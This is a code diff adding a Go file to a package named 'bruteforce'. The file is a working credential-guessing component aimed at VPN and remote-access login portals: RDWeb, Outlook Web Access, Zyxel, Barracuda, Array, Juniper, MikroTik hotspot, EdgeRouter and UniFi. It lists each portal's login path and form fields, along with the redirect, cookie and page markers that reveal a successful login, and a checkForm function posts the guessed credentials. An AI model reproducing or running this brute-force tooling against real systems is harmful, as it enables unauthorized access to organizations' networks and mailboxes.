@@ -0,0 +1,263 @@
+package bruteforce
+
+import (
+	"context"
+	"encoding/json"
+	"html"
+	"net/http"
+	"net/url"
+	"regexp"
+	"strings"
+)
+
+// formChecker describes a login form of a web portal: where the
+// credentials are posted, the fields they go in and how the answer tells a
+// valid login from a rejected one.
+type formChecker struct {
+	path   string                                          // login path appended to the target
+	fields func(cred Credential, target string) url.Values // target is the portal's base URL
+	body   *bodyMatcher                                    // final indicators mark a logged-in page
+	json   bool                                            // post the fields as a JSON object
+
+	// sessionCookies are the cookies of which one set on a redirect marks a
+	// valid login.
+	sessionCookies []string
+	// rejectLocation, when found in the Location of a redirect, marks it as
+	// the way back to the login form.
+	rejectLocation string
+	// acceptLocation, when found in the Location of a redirect, marks it as
+	// the way into the portal, for portals whose session cookie is set
+	// before the login.
+	acceptLocation string
+}
+
+// formCheckers are the portals checked with checkForm, by VPN type.
+var formCheckers = map[string]*formChecker{
+	"rdweb": {
+		path: "/RDWeb/Pages/en-US/login.aspx",
+		fields: func(cred Credential, _ string) url.Values {
+			return url.Values{
+				"DomainUserName": {cred.Username},
+				"UserPass":       {cred.Password},
+				"WorkSpaceID":    {""},
+				"RedirectorName": {""},
+				"MachineType":    {"private"},
+				"isUtf8":         {"1"},
+				"flags":          {"0"},
+			}
+		},
+		body:           newBodyMatcher([]string{"tswa_signout", "webfeed.aspx"}, nil, nil),
+		sessionCookies: []string{"TSWAAuthHttpOnlyCookie", "TSWAAuthClientSideCookie"},
+	},
+	"owa": {
+		path: "/owa/auth.owa",
+		fields: func(cred Credential, target string) url.Values {
+			return url.Values{
+				"destination":    {target + "/owa/"},
+				"flags":          {"4"},
+				"forcedownlevel": {"0"},
+				"username":       {cred.Username},
+				"password":       {cred.Password},
+				"passwordText":   {""},
+				"isUtf8":         {"1"},
+			}
+		},
+		body:           newBodyMatcher([]string{"sessiondata.ashx", "owaLogoutLink"}, nil, nil),
+		sessionCookies: []string{"cadata"},
+		rejectLocation: "reason=",
+	},
+	"zyxel": {
+		path: "/weblogin.cgi",
+		fields: func(cred Credential, _ string) url.Values {
+			return url.Values{
+				"username": {cred.Username},
+				"pwd":      {cred.Password},
+				"password": {cred.Password},
+				"pwd_r":    {""},
+				"mp_idx":   {"0"},
+			}
+		},
+		body:           newBodyMatcher([]string{"logout.cgi", "/ext-js/app/"}, nil, nil),
+		sessionCookies: []string{"authtok"},
+		rejectLocation: "weblogin.cgi",
+	},
+	"barracuda": {
+		path: "/logon.do",
+		fields: func(cred Credential, _ string) url.Values {
+			return url.Values{
+				"username":    {cred.Username},
+				"password":    {cred.Password},
+				"logonTicket": {""},
+			}
+		},
+		body:           newBodyMatcher([]string{"logoff.do", "showHome.do"}, nil, nil),
+		rejectLocation: "showLogon.do",
+		acceptLocation: "showHome.do",
+	},
+	"array": {
+		path: "/prx/000/http/localhost/login",
+		fields: func(cred Credential, _ string) url.Values {
+			return url.Values{
+				"method": {"login"},
+				"uname":  {cred.Username},
+				"pwd":    {cred.Password},
+			}
+		},
+		body:           newBodyMatcher([]string{"/prx/000/http/localhost/logout", "an_logout"}, nil, nil),
+		rejectLocation: "/login",
+		acceptLocation: "/welcome",
+	},
+	"juniper": {
+		path: "/dana-na/auth/url_default/login.cgi",
+		fields: func(cred Credential, _ string) url.Values {
+			// Juniper format: target;user;pass;realm, the realm defaulting
+			// to the stock "Users".
+			password, realm, ok := strings.Cut(cred.Password, ";")
+			if !ok || realm == "" {
+				realm = "Users"
+			}
+			return url.Values{
+				"tz_offset": {"0"},
+				"username":  {cred.Username},
+				"password":  {password},
+				"realm":     {realm},
+				"btnSubmit": {"Sign In"},
+			}
+		},
+		body:           newBodyMatcher([]string{"/dana/home/", "/dana-na/auth/logout.cgi"}, nil, nil),
+		sessionCookies: []string{"DSID"},
+		rejectLocation: "p=failed",
+	},
+	// Only hotspots with HTTP PAP enabled accept the plain password; with
+	// CHAP alone the form hashes it with a per-page challenge.
+	"mikrotik_hotspot": {
+		path: "/login",
+		fields: func(cred Credential, _ string) url.Values {
+			return url.Values{
+				"username": {cred.Username},
+				"password": {cred.Password},
+				"dst":      {""},
+				"popup":    {"true"},
+			}
+		},
+		body:           newBodyMatcher([]string{"You are logged in", "/logout?erase-cookie"}, nil, nil),
+		rejectLocation: "/login",
+		acceptLocation: "/status",
+	},
+	"edgerouter": {
+		path: "/",
+		fields: func(cred Credential, _ string) url.Values {
+			return url.Values{
+				"username": {cred.Username},
+				"password": {cred.Password},
+			}
+		},
+		body:           newBodyMatcher([]string{"EDGE.Config", "/api/edge/"}, nil, nil),
+		sessionCookies: []string{"beaker.session.id"},
+	},
+	"unifi": {
+		path: "/api/login",
+		fields: func(cred Credential, _ string) url.Values {
+			return url.Values{
+				"username": {cred.Username},
+				"password": {cred.Password},
+			}
+		},
+		body: newBodyMatcher([]string{`"rc":"ok"`}, nil, nil),
+		json: true,
+	},
+}
+
+// checkForm posts the credentials of cred to the login form fc describes.
+// A login is valid when the portal redirects into the portal or setting a
+// session cookie, or
+// answers with a page showing a final indicator when redirects are
+// followed.
+func (e *Engine) checkForm(ctx context.Context, fc *formChecker, cred Credential, resp *Response, buf []byte) (bool, error) {
+	target := strings.TrimSuffix(authURL(cred.IP), "/")
+	if i := strings.Index(strings.ToLower(target), strings.ToLower(fc.path)); i >= 0 && fc.path != "/" {
+		target = target[:i]
+	}
+
+	fields := fc.fields(cred, target)
+	contentType, body := "application/x-www-form-urlencoded", fields.Encode()
+	if fc.json {
+		obj := make(map[string]string, len(fields))
+		for k := range fields {
+			obj[k] = fields.Get(k)
+		}
+		b, err := json.Marshal(obj)
+		if err != nil {
+			return false, err
+		}
+		contentType, body = "application/json", string(b)
+	}
+
+	req, err := http.NewRequestWithContext(ctx, http.MethodPost, target+fc.path, strings.NewReader(body))
+	if err != nil {
+		return false, err
+	}
+	req.Header.Set("Content-Type", contentType)
+	req.Header.Set("User-Agent", e.userAgent())
+	req.Header.Set("Connection", "close")
+	req.Close = true
+
+	hr, err := e.doRequest(req)
+	if err != nil {
+		return false, err
+	}
+	defer hr.Body.Close()
+
+	scan, err := fc.body.scan(hr, buf, resp)
+	if err != nil {
+		return false, err
+	}
+
+	switch {
+	case hr.StatusCode >= 300 && hr.StatusCode < 400:
+		location := hr.Header.Get("Location")
+		if fc.rejectLocation != "" && strings.Contains(location, fc.rejectLocation) {
+			return false, nil
+		}
+		if fc.acceptLocation != "" && strings.Contains(location, fc.acceptLocation) {
+			return true, nil
+		}
+		for _, c := range hr.Cookies() {
+			for _, name := range fc.sessionCookies {
+				if strings.EqualFold(c.Name, name) && c.Value != "" && c.MaxAge >= 0 {
+					return true, nil
+				}
+			}
+		}
+	case hr.StatusCode == http.StatusOK:
+		return scan.final, nil
+	}
+	return false, nil
+}
+
+var (
+	formSelect = regexp.MustCompile(`(?is)<select([^>]*)>(.*?)</select>`)
+	formOption = regexp.MustCompile(`(?is)<option[^>]*value=["']([^"']*)["']`)
+)
+
+// selectOptions returns the non-empty option values of the select named
+// name in a login page, at most max.
+func selectOptions(page []byte, name string, max int) []string {
+	nameAttr := regexp.MustCompile(`(?i)\bname=["']?` + regexp.QuoteMeta(name) + `["'\s>]`)
+	for _, m := range formSelect.FindAllSubmatch(page, -1) {
+		if !nameAttr.Match(append(m[1], '>')) {
+			continue
+		}
+		var values []string
+		for _, o := range formOption.FindAllSubmatch(m[2], -1) {
+			if v := html.UnescapeString(string(o[1])); v != "" {
+				values = append(values, v)
+				if len(values) == max {
+					break
+				}
+			}
+		}
+		return values
+	}
+	return nil
+}